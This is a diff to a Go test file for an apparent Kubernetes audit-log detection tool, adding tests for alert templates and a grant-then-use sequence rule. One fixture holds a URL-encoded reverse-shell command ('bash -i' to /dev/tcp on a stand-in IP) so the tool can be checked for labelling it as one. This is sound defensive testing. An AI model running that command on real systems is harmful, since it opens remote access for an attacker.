@@ -110,11 +110,101 @@ rules:
 			a := &Alert{ExecCommand: ExecCommand(e.RequestURI), Count: 1, FirstTime: t0, LastTime: t0}
 			b.ReportAllocs()
 			for b.Loop() {
-				if render(r, e, a) == "" {
+				if render(r, e, a, &windowResult{}) == "" {
 					b.Fatal("empty message")
 				}
 			}
-			b.Log(render(r, e, a))
+			b.Log(render(r, e, a, &windowResult{}))
 		})
+	}
+}
+
+// TestRender_Helpers pins docs/rules.md: an output template calls the
+// expression helpers with the same arguments, lists included.
+func TestRender_Helpers(t *testing.T) {
+	rs := compileTestRules(t, `
+lists:
+  admins: [root, "ops-*"]
+rules:
+- id: shell
+  title: shell
+  severity: high
+  audit: {level: Metadata}
+  match: objectRef.subresource == "exec"
+  output: >-
+    {{ .user.username }}{{ if inList .user.username "admins" }} (admin){{ end }} ran a
+    {{ execClass .execCommand }} command ({{ execClass (queryParam .requestURI "command") }}) with
+    {{ uaFamily .userAgent }}{{ if isPrivateIP (index .sourceIPs 0) }} from inside{{ end }}
+`)
+	exec := func(id, user string) []byte {
+		return ev(id, 0, user, "get", "pods", 101,
+			"objectRef", `{"resource":"pods","subresource":"exec","namespace":"ns","name":"web"}`,
+			"requestURI", "/api/v1/namespaces/ns/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4444+0%3E%261",
+			"userAgent", "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0", "sourceIPs", `["10.0.0.7"]`)
+	}
+	alerts, err := Evaluate(rs, [][]byte{exec("a1", "ops-anna"), exec("a2", "mallory")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{
+		"ops-anna (admin) ran a reverse-shell command (reverse-shell) with kubectl from inside",
+		"mallory ran a reverse-shell command (reverse-shell) with kubectl from inside",
+	}
+	if len(alerts) != len(want) {
+		t.Fatalf("got %d alerts, want %d", len(alerts), len(want))
+	}
+	for i, a := range alerts {
+		if a.Message != want[i] {
+			t.Errorf("alert %d: %q, want %q", i, a.Message, want[i])
+		}
+	}
+}
+
+// TestRender_SequenceSteps pins docs/rules.md: a sequence's alert reads
+// each step (.steps) and the user of the first (.firstUser), who may not
+// be the user of the event that completed it.
+func TestRender_SequenceSteps(t *testing.T) {
+	rs := compileTestRules(t, `
+rules:
+- id: grant-then-use
+  title: grant then use
+  severity: high
+  audit: {level: RequestResponse}
+  window:
+    kind: sequence
+    within: 10m
+    steps:
+      - name: grant
+        match: objectRef.resource == "rolebindings" && verb == "create"
+        by: ['objectRef.name']
+      - name: use
+        match: objectRef.resource == "secrets"
+        by: ['user.username']
+  output: >-
+    {{ .firstUser }} granted {{ .user.username }}, who used it:
+    {{ range .steps }}{{ .name }} by {{ .user }} ({{ .auditID }}, {{ .time.Format "15:04:05" }}); {{ end }}
+- id: plain
+  title: plain
+  severity: low
+  audit: {level: Metadata}
+  match: verb == "delete"
+  output: '[{{ .firstUser }}][{{ len .steps }}]'
+`)
+	alerts, err := Evaluate(rs, [][]byte{
+		ev("g1", 0, "alice", "create", "rolebindings", 201, "objectRef", `{"resource":"rolebindings","namespace":"ns","name":"mallory"}`),
+		ev("u1", 30, "mallory", "get", "secrets", 200),
+		ev("d1", 40, "bob", "delete", "pods", 200),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(alerts) != 2 {
+		t.Fatalf("got %d alerts, want the sequence and the delete", len(alerts))
+	}
+	if want := "alice granted mallory, who used it: grant by alice (g1, 06:00:00); use by mallory (u1, 06:00:30); "; alerts[0].Message != want {
+		t.Errorf("sequence: %q, want %q", alerts[0].Message, want)
+	}
+	if want := "[][0]"; alerts[1].Message != want {
+		t.Errorf("single event: %q, want %q", alerts[1].Message, want)
 	}
 }
